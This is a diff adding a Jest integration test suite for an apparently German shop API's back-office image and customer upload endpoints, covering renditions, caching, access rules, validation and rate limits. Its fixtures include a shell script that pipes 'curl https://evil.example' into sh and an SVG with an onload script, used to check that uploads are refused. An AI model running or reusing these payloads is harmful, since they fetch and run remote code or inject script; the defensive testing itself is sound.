@@ -1,0 +1,472 @@
+import { readdirSync } from 'node:fs';
+import sharp from 'sharp';
+import { KeyValueStore } from '../../../src/common/kv/key-value-store';
+import { DiskFileStorage, FileStorage } from '../../../src/modules/media/file-storage';
+import { IMAGE_SIZES, ImageSizeName } from '../../../src/modules/media/image-sizes';
+import { previewKey, renditionKey } from '../../../src/modules/media/media-storage';
+import { UPLOAD_RATE, uploadRateKey } from '../../../src/modules/media/upload-crud.service';
+import { Client, TestApi, countRows, startTestApi } from './harness';
+
+interface ImageRow {
+  id: number;
+  version: number;
+  extension: string;
+  alt: string;
+  mimeType: string;
+  width: number;
+  height: number;
+  size: number;
+}
+interface UploadRow {
+  id: number;
+  version: number;
+  extension: string;
+  mimeType: string;
+  publicHash: string;
+}
+
+const png = (width: number, height: number, background = '#058243') =>
+  sharp({ create: { width, height, channels: 3, background } })
+    .png()
+    .toBuffer();
+const dataUrl = (buffer: Buffer, type = 'image/png') =>
+  `data:${type};base64,${buffer.toString('base64')}`;
+const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
+const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
+const IMMUTABLE = 'max-age=31536000, immutable';
+
+describe(`images and uploads (${process.env.TEST_DATABASE})`, () => {
+  let api: TestApi;
+  let admin: Client;
+  let storage: DiskFileStorage;
+
+  /** Files stay binary here; the harness client reads JSON. */
+  const fetchFile = (url: string, headers: Record<string, string> = {}) =>
+    api.app.inject({ method: 'GET', url, headers });
+  /** Every file under ${DATA_DIR}/files, originals and renderings alike. */
+  const storedFiles = () =>
+    (
+      readdirSync(storage.root, { recursive: true, withFileTypes: true }) as { isFile(): boolean }[]
+    ).filter((entry) => entry.isFile()).length;
+  const storageKeyOf = async (table: 'image' | 'upload', id: number) => {
+    const [row] = await api.dataSource.query(`SELECT storageKey FROM ${table} WHERE id = ${id}`);
+    return (row as { storageKey: string }).storageKey;
+  };
+
+  beforeAll(async () => {
+    api = await startTestApi();
+    admin = await api.admin();
+    storage = api.app.get(FileStorage) as DiskFileStorage;
+  });
+  afterAll(() => api.close());
+
+  describe('back-office images', () => {
+    let image: ImageRow;
+
+    it('are created by an administrator from a data URL; the type and size come from the bytes', async () => {
+      const reply = await admin.post<{ data: ImageRow }>('/api/images', {
+        alt: 'Käsespätzle',
+        file: dataUrl(await png(2400, 1200), 'image/jpeg'),
+      });
+      expect(reply.status).toBe(201);
+      image = reply.body.data;
+      expect(image).toMatchObject({
+        version: 1,
+        extension: 'png',
+        mimeType: 'image/png',
+        alt: 'Käsespätzle',
+        width: 2400,
+        height: 1200,
+      });
+      expect(image.size).toBeGreaterThan(0);
+      expect(image).not.toHaveProperty('storageKey');
+      expect(await storage.exists(await storageKeyOf('image', image.id))).toBe(true);
+    });
+
+    it('are served as the original at /image/{id}-{version}.{ext}, immutable, with an ETag', async () => {
+      const reply = await fetchFile(`/image/${image.id}-1.png`);
+      expect(reply.statusCode).toBe(200);
+      expect(reply.headers['content-type']).toBe('image/png');
+      expect(reply.headers['cache-control']).toBe(`public, ${IMMUTABLE}`);
+      expect((await sharp(reply.rawPayload).metadata()).width).toBe(2400);
+      const etag = String(reply.headers.etag);
+      expect(etag).toMatch(/^".+"$/);
+      const again = await fetchFile(`/image/${image.id}-1.png`, { 'if-none-match': etag });
+      expect(again.statusCode).toBe(304);
+      expect(again.rawPayload).toHaveLength(0);
+    });
+
+    it('are rendered in all six widths, once, then served from the cache in storage', async () => {
+      const key = await storageKeyOf('image', image.id);
+      for (const [size, width] of Object.entries(IMAGE_SIZES)) {
+        const cached = renditionKey(key, size as ImageSizeName);
+        expect(await storage.exists(cached)).toBe(false);
+        const reply = await fetchFile(`/image/${size}/${image.id}-1.png`);
+        expect(reply.statusCode).toBe(200);
+        expect(reply.headers['content-type']).toBe('image/png');
+        expect(reply.headers['cache-control']).toBe(`public, ${IMMUTABLE}`);
+        expect(reply.headers.etag).toBe(`"${image.id}-1-${size}"`);
+        const metadata = await sharp(reply.rawPayload).metadata();
+        expect({ size, width: metadata.width, height: metadata.height }).toEqual({
+          size,
+          width,
+          height: width / 2,
+        });
+        expect(await storage.exists(cached)).toBe(true);
+      }
+      // Proof that the second request reads the cache: a marked file put in its place is what comes back.
+      const marker = await png(17, 17, '#ff0000');
+      await storage.put(renditionKey(key, 'small'), marker);
+      const second = await fetchFile(`/image/small/${image.id}-1.png`);
+      expect(second.statusCode).toBe(200);
+      expect(Buffer.compare(second.rawPayload, marker)).toBe(0);
+    });
+
+    it('never scale up', async () => {
+      const small = await admin.post<{ data: ImageRow }>('/api/images', {
+        file: dataUrl(await png(300, 200)),
+      });
+      const reply = await fetchFile(`/image/large/${small.body.data.id}-1.png`);
+      expect((await sharp(reply.rawPayload).metadata()).width).toBe(300);
+    });
+
+    it('are also served under /image/product/ and /image/category/', async () => {
+      const product = await fetchFile(`/image/product/${image.id}-1.png`);
+      expect(product.statusCode).toBe(200);
+      expect((await sharp(product.rawPayload).metadata()).width).toBe(2400);
+      const category = await fetchFile(`/image/category/thumbnail/${image.id}-1.png`);
+      expect((await sharp(category.rawPayload).metadata()).width).toBe(128);
+    });
+
+    it.each([
+      ['a wrong version', (id: number) => `/image/${id}-2.png`, 'Das Bild wurde nicht gefunden.'],
+      ['a wrong extension', (id: number) => `/image/${id}-1.jpg`, 'Das Bild wurde nicht gefunden.'],
+      ['an unknown id', () => '/image/99999-1.png', 'Das Bild wurde nicht gefunden.'],
+      ['a malformed name', () => '/image/bild.png', 'Das Bild wurde nicht gefunden.'],
+      [
+        'a wrong version of a size',
+        (id: number) => `/image/small/${id}-7.png`,
+        'Das Bild wurde nicht gefunden.',
+      ],
+      [
+        'an unknown size',
+        (id: number) => `/image/huge/${id}-1.png`,
+        'Die Bildgröße „huge“ gibt es nicht. Verfügbar: icon, thumbnail, tiny, small, medium, large.',
+      ],
+      [
+        'an unknown alias',
+        (id: number) => `/image/user/small/${id}-1.png`,
+        'Das Bild wurde nicht gefunden.',
+      ],
+    ])('answer %s with a German 404', async (_, url, message) => {
+      const reply = await fetchFile(url(image.id));
+      expect(reply.statusCode).toBe(404);
+      expect(reply.headers['content-type']).toMatch(/^application\/json/);
+      expect(reply.json()).toEqual({ errors: [{ message }] });
+    });
+
+    it('get a new version with a new file; the old URLs and files are gone', async () => {
+      const oldKey = await storageKeyOf('image', image.id);
+      const reply = await admin.put<{ data: ImageRow }>(`/api/images/${image.id}`, {
+        file: dataUrl(
+          await sharp(await png(800, 600))
+            .jpeg()
+            .toBuffer(),
+          'image/jpeg',
+        ),
+      });
+      expect(reply.status).toBe(200);
+      expect(reply.body.data).toMatchObject({
+        version: 2,
+        extension: 'jpg',
+        mimeType: 'image/jpeg',
+        width: 800,
+        height: 600,
+        alt: 'Käsespätzle',
+      });
+      expect((await fetchFile(`/image/${image.id}-1.png`)).statusCode).toBe(404);
+      const fresh = await fetchFile(`/image/tiny/${image.id}-2.jpg`);
+      expect(fresh.statusCode).toBe(200);
+      expect(fresh.headers['content-type']).toBe('image/jpeg');
+      expect((await sharp(fresh.rawPayload).metadata()).width).toBe(256);
+      expect(await storage.exists(oldKey)).toBe(false);
+      expect(await storage.exists(renditionKey(oldKey, 'small'))).toBe(false);
+
+      const renamed = await admin.put<{ data: ImageRow }>(`/api/images/${image.id}`, {
+        alt: 'Spätzle',
+      });
+      expect(renamed.body.data).toMatchObject({ version: 2, alt: 'Spätzle' });
+    });
+
+    it('refuse a script called .png and store nothing', async () => {
+      const rows = await countRows(api, 'image');
+      const files = storedFiles();
+      const reply = await admin.post('/api/images', { alt: 'x', file: dataUrl(SCRIPT) });
+      expect(reply.status).toBe(422);
+      expect(reply.body.errors).toEqual([
+        {
+          field: 'file',
+          message:
+            'Der Dateityp wird nicht erkannt oder wird nicht unterstützt. Erlaubt: JPEG, PNG, GIF, WebP.',
+        },
+      ]);
+      const pdf = await admin.post('/api/images', { file: dataUrl(PDF, 'image/png') });
+      expect(pdf.body.errors).toEqual([
+        {
+          field: 'file',
+          message: 'Dateityp „PDF“ wird nicht unterstützt. Erlaubt: JPEG, PNG, GIF, WebP.',
+        },
+      ]);
+      expect(await countRows(api, 'image')).toBe(rows);
+      expect(storedFiles()).toBe(files);
+    });
+
+    it('refuse files over 10 MB, broken data URLs, missing files and odd dimensions, naming the field', async () => {
+      const rows = await countRows(api, 'image');
+      const files = storedFiles();
+      const cases: [unknown, string][] = [
+        [
+          { file: dataUrl(Buffer.alloc(10 * 1024 * 1024 + 1)) },
+          'Die Datei ist zu groß (höchstens 10 MB).',
+        ],
+        [{ file: 'bild.png' }, '„Datei“ muss eine Data-URL sein (data:<Typ>;base64,<Daten>).'],
+        [{ file: 'data:image/png;base64,%%%' }, '„Datei“ enthält keine gültigen Base64-Daten.'],
+        [{ alt: 'ohne Datei' }, '„Datei“ ist erforderlich.'],
+        [
+          { file: dataUrl(await png(10, 40)) },
+          'Das Bild in „Datei“ ist zu klein: 10 × 40 Pixel, mindestens 16 × 16 Pixel.',
+        ],
+        [
+          { file: dataUrl(await png(8001, 16)) },
+          'Das Bild in „Datei“ ist zu groß: 8001 × 16 Pixel, höchstens 8000 × 8000 Pixel.',
+        ],
+        [
+          { file: dataUrl((await png(100, 100)).subarray(0, 60)) },
+          'Das Bild in „Datei“ ist beschädigt und kann nicht gelesen werden.',
+        ],
+      ];
+      for (const [body, message] of cases) {
+        const reply = await admin.post('/api/images', body);
+        expect({ status: reply.status, errors: reply.body.errors }).toEqual({
+          status: 422,
+          errors: [{ field: 'file', message }],
+        });
+      }
+      expect(await countRows(api, 'image')).toBe(rows);
+      expect(storedFiles()).toBe(files);
+    });
+
+    it('are listed for staff only and changed by administrators only', async () => {
+      const anonymous = await api.client().get('/api/images');
+      expect(anonymous.status).toBe(401);
+      expect(anonymous.body).toEqual({ errors: [{ message: 'Bitte melden Sie sich an.' }] });
+      const employee = await api.employee();
+      const list = await employee.get<{ data: ImageRow[] }>('/api/images');
+      expect(list.status).toBe(200);
+      expect(list.body.data.map((row) => row.id)).toContain(image.id);
+      expect(list.body.data[0]).not.toHaveProperty('storageKey');
+      const write = await employee.post('/api/images', { file: dataUrl(await png(20, 20)) });
+      expect(write.status).toBe(403);
+      expect((await employee.delete(`/api/images/${image.id}`)).status).toBe(403);
+    });
+
+    it('are deleted with their files', async () => {
+      const key = await storageKeyOf('image', image.id);
+      expect((await admin.delete(`/api/images/${image.id}`)).status).toBe(200);
+      expect(await storage.exists(key)).toBe(false);
+      expect(await storage.exists(renditionKey(key, 'tiny'))).toBe(false);
+      expect((await fetchFile(`/image/${image.id}-2.jpg`)).statusCode).toBe(404);
+    });
+  });
+
+  describe('customer uploads', () => {
+    let upload: UploadRow;
+
+    it('are created anonymously and answer with id, version, extension, mimeType and publicHash', async () => {
+      const reply = await api.client().post<{ data: UploadRow }>('/api/uploads', {
+        data: dataUrl(await png(1600, 800)),
+        name: 'Logo.png',
+        kind: 'image',
+      });
+      expect(reply.status).toBe(201);
+      upload = reply.body.data;
+      expect(Object.keys(upload).sort()).toEqual([
+        'extension',
+        'id',
+        'mimeType',
+        'publicHash',
+        'version',
+      ]);
+      expect(upload).toMatchObject({ version: 1, extension: 'png', mimeType: 'image/png' });
+      expect(upload.publicHash).toMatch(/^[A-Za-z0-9_-]{22,}$/);
+    });
+
+    it('are served with the right publicHash only, locked down against scripts', async () => {
+      const url = `/upload/${upload.publicHash}/${upload.id}-1.png`;
+      const reply = await fetchFile(url);
+      expect(reply.statusCode).toBe(200);
+      expect(reply.headers['content-type']).toBe('image/png');
+      expect(reply.headers['content-security-policy']).toContain("default-src 'none'");
+      expect(reply.headers['x-content-type-options']).toBe('nosniff');
+      expect(reply.headers['content-disposition']).toMatch(/^inline; filename="Logo.png"/);
+      expect((await sharp(reply.rawPayload).metadata()).width).toBe(1600);
+
+      const wrongHash = `${upload.publicHash.slice(0, -1)}${upload.publicHash.endsWith('A') ? 'B' : 'A'}`;
+      for (const wrong of [
+        `/upload/${wrongHash}/${upload.id}-1.png`,
+        `/upload/x/${upload.id}-1.png`,
+        `/upload/${upload.publicHash}/${upload.id}-2.png`,
+        `/upload/${upload.publicHash}/${upload.id}-1.gif`,
+      ]) {
+        const refused = await fetchFile(wrong);
+        expect({ wrong, status: refused.statusCode, body: refused.json() }).toEqual({
+          wrong,
+          status: 404,
+          body: { errors: [{ message: 'Die Datei wurde nicht gefunden.' }] },
+        });
+      }
+    });
+
+    it('of pictures have a JPEG preview 640 pixels wide', async () => {
+      const reply = await fetchFile(`/upload/${upload.publicHash}/preview/${upload.id}-1.jpg`);
+      expect(reply.statusCode).toBe(200);
+      expect(reply.headers['content-type']).toBe('image/jpeg');
+      const metadata = await sharp(reply.rawPayload).metadata();
+      expect({ format: metadata.format, width: metadata.width }).toEqual({
+        format: 'jpeg',
+        width: 640,
+      });
+      expect(await storage.exists(previewKey(await storageKeyOf('upload', upload.id)))).toBe(true);
+      expect(
+        (await fetchFile(`/upload/${upload.publicHash}/preview/${upload.id}-1.png`)).statusCode,
+      ).toBe(404);
+    });
+
+    it('take documents in file steps, served as a download without preview', async () => {
+      const reply = await api.client().post<{ data: UploadRow }>('/api/uploads', {
+        data: dataUrl(PDF, 'application/pdf'),
+        name: 'Angebot.pdf',
+      });
+      expect(reply.status).toBe(201);
+      const pdf = reply.body.data;
+      expect(pdf).toMatchObject({ extension: 'pdf', mimeType: 'application/pdf' });
+      const file = await fetchFile(`/upload/${pdf.publicHash}/${pdf.id}-1.pdf`);
+      expect(file.statusCode).toBe(200);
+      expect(file.headers['content-disposition']).toMatch(/^attachment; filename="Angebot.pdf"/);
+      expect(Buffer.compare(file.rawPayload, PDF)).toBe(0);
+      const preview = await fetchFile(`/upload/${pdf.publicHash}/preview/${pdf.id}-1.jpg`);
+      expect(preview.statusCode).toBe(404);
+      expect(preview.json()).toEqual({
+        errors: [{ message: 'Für diese Datei gibt es keine Vorschau.' }],
+      });
+    });
+
+    it('take clean SVG and text, and serve SVG as a download that runs nothing', async () => {
+      const svg =
+        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><circle r="5"/></svg>';
+      const reply = await api.client().post<{ data: UploadRow }>('/api/uploads', {
+        data: dataUrl(Buffer.from(svg), 'image/svg+xml'),
+        name: 'form.svg',
+      });
+      expect(reply.body.data).toMatchObject({ extension: 'svg', mimeType: 'image/svg+xml' });
+      const file = await fetchFile(
+        `/upload/${reply.body.data.publicHash}/${reply.body.data.id}-1.svg`,
+      );
+      expect(file.headers['content-type']).toBe('image/svg+xml; charset=utf-8');
+      expect(file.headers['content-disposition']).toMatch(/^attachment;/);
+      expect(file.headers['content-security-policy']).toContain("default-src 'none'");
+
+      const csv = await api.client().post<{ data: UploadRow }>('/api/uploads', {
+        data: dataUrl(Buffer.from('Artikel;Menge\nBrot;2\n'), 'text/csv'),
+        name: 'liste.csv',
+      });
+      expect(csv.body.data).toMatchObject({ extension: 'csv', mimeType: 'text/csv' });
+    });
+
+    it('refuse what the bytes do not allow, storing nothing', async () => {
+      const rows = await countRows(api, 'upload');
+      const files = storedFiles();
+      const cases: [unknown, string][] = [
+        [
+          { data: dataUrl(SCRIPT), name: 'foto.png', kind: 'image' },
+          'Der Dateityp wird nicht erkannt oder wird nicht unterstützt. Erlaubt: JPEG, PNG, GIF.',
+        ],
+        [
+          { data: dataUrl(SCRIPT), name: 'foto.png' },
+          'Der Dateityp wird nicht erkannt oder wird nicht unterstützt. Erlaubt: TXT, CSV, GIF, JPEG, PNG, SVG, MP4, MPEG, WebM, ZIP, PDF, DOC, DOCX, XLS, XLSX, PPT, PPTX.',
+        ],
+        [
+          { data: dataUrl(PDF), name: 'bild.jpg', kind: 'image' },
+          'Dateityp „PDF“ wird nicht unterstützt. Erlaubt: JPEG, PNG, GIF.',
+        ],
+        [
+          {
+            data: dataUrl(Buffer.from('<svg onload="alert(1)"></svg>'), 'image/svg+xml'),
+            name: 'x.svg',
+          },
+          'Der Dateityp wird nicht erkannt oder wird nicht unterstützt. Erlaubt: TXT, CSV, GIF, JPEG, PNG, SVG, MP4, MPEG, WebM, ZIP, PDF, DOC, DOCX, XLS, XLSX, PPT, PPTX.',
+        ],
+        [
+          { data: dataUrl(Buffer.alloc(10 * 1024 * 1024 + 1)) },
+          'Die Datei ist zu groß (höchstens 10 MB).',
+        ],
+        [{ data: 'datei.pdf' }, '„Datei“ muss eine Data-URL sein (data:<Typ>;base64,<Daten>).'],
+      ];
+      for (const [body, message] of cases) {
+        const reply = await api.client().post('/api/uploads', body);
+        expect({ status: reply.status, errors: reply.body.errors }).toEqual({
+          status: 422,
+          errors: [{ field: 'data', message }],
+        });
+      }
+      const kind = await api.client().post('/api/uploads', { data: dataUrl(PDF), kind: 'video' });
+      expect(kind.body.errors).toEqual([
+        { field: 'kind', message: '„Art“ muss „image“ oder „file“ sein.' },
+      ]);
+      expect(await countRows(api, 'upload')).toBe(rows);
+      expect(storedFiles()).toBe(files);
+    });
+
+    it('are listed for staff, deleted by administrators with their files', async () => {
+      expect((await api.client().get('/api/uploads')).status).toBe(401);
+      const employee = await api.employee();
+      const list = await employee.get<{ data: (UploadRow & { originalName: string })[] }>(
+        '/api/uploads',
+      );
+      expect(list.status).toBe(200);
+      expect(list.body.data.find((row) => row.id === upload.id)).toMatchObject({
+        originalName: 'Logo.png',
+        publicHash: upload.publicHash,
+      });
+      expect(list.body.data[0]).not.toHaveProperty('storageKey');
+      expect((await employee.delete(`/api/uploads/${upload.id}`)).status).toBe(403);
+      const key = await storageKeyOf('upload', upload.id);
+      expect((await admin.delete(`/api/uploads/${upload.id}`)).status).toBe(200);
+      expect(await storage.exists(key)).toBe(false);
+      expect(await storage.exists(previewKey(key))).toBe(false);
+      expect((await fetchFile(`/upload/${upload.publicHash}/${upload.id}-1.png`)).statusCode).toBe(
+        404,
+      );
+    });
+
+    it('are limited per address for visitors, with a German 429', async () => {
+      const kv = api.app.get(KeyValueStore);
+      const key = uploadRateKey('127.0.0.1');
+      await kv.delete(key);
+      for (let i = 0; i < UPLOAD_RATE.limit; i++)
+        await kv.increment(key, UPLOAD_RATE.windowSeconds);
+      const rows = await countRows(api, 'upload');
+      const reply = await api.client().post('/api/uploads', { data: dataUrl(PDF), name: 'a.pdf' });
+      expect(reply.status).toBe(429);
+      expect(reply.body.errors).toEqual([
+        { message: 'Zu viele hochgeladene Dateien. Bitte versuchen Sie es in 10 Minuten erneut.' },
+      ]);
+      expect(await countRows(api, 'upload')).toBe(rows);
+      // Staff uploading for a customer are not counted.
+      expect((await admin.post('/api/uploads', { data: dataUrl(PDF), name: 'a.pdf' })).status).toBe(
+        201,
+      );
+      await kv.delete(key);
+    });
+  });
+});
